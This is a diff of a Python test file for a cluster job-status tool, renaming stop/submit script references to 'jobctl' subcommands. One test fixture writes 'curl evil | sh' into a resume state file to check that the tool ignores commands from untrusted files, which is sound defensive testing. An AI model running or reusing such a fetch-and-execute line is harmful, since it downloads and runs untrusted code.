@@ -104,7 +104,7 @@ def test_ranks_that_may_hang_are_named_when_those_of_all_nodes_are_idle(tmp_path
     ("keys", "more", "text"),
     [
         ({"ended": 5, "exit": 0}, {}, "done (exit 0)"),
-        ({"ended": 5, "exit": 0}, {"control__STOP": ""}, "stopped by stop.sh or Ctrl-C (exit 0)"),
+        ({"ended": 5, "exit": 0}, {"control__STOP": ""}, "stopped by jobctl stop or Ctrl-C (exit 0)"),
         ({"ended": 5, "exit": 75}, {}, "stopped early (exit 75)"),
         ({"ended": 5, "exit": 9}, {}, "failed (exit 9: unknown)"),
         ({"start_ticks": 1}, {}, "failed: its supervisor was killed, or the machine was restarted"),
@@ -147,7 +147,7 @@ def test_a_node_without_an_exit_code_is_a_crash(tmp_path: Path) -> None:
 def test_a_run_that_ended_early_goes_on_with_the_submit_script_of_the_artifact(tmp_path: Path) -> None:
     run = make_run(tmp_path, state__node_00=node(ended=5, exit=75), state__resume="command=curl evil | sh\n")
     job = make_job(tmp_path)
-    assert status.describe(Engine(job), run)["resume"] == f"{job.artifact}/submit.sh --resume r"
+    assert status.describe(Engine(job), run)["resume"] == f"{job.artifact}/jobctl submit --resume r"
 
 
 # ---- values of files that somebody else may have written
@@ -212,10 +212,10 @@ def slurm(tmp_path: Path, printed: str = "", errors: str = "", code: int = 0, **
             "7 CANCELLED None\n",
             "exit=75\n",
             {},
-            "job 7 was cancelled by hand, after it saved; resume with submit.sh --resume r",
+            "job 7 was cancelled by hand, after it saved; resume with jobctl submit --resume r",
         ),
         ("", "exit=1\n", {}, "failed (exit 1: crashed)"),
-        ("", "", {"control__STOP": ""}, "stopped by stop.sh before it had started, job 7"),
+        ("", "", {"control__STOP": ""}, "stopped by jobctl stop before it had started, job 7"),
         (
             "7 NODE_FAIL None\n",
             "",
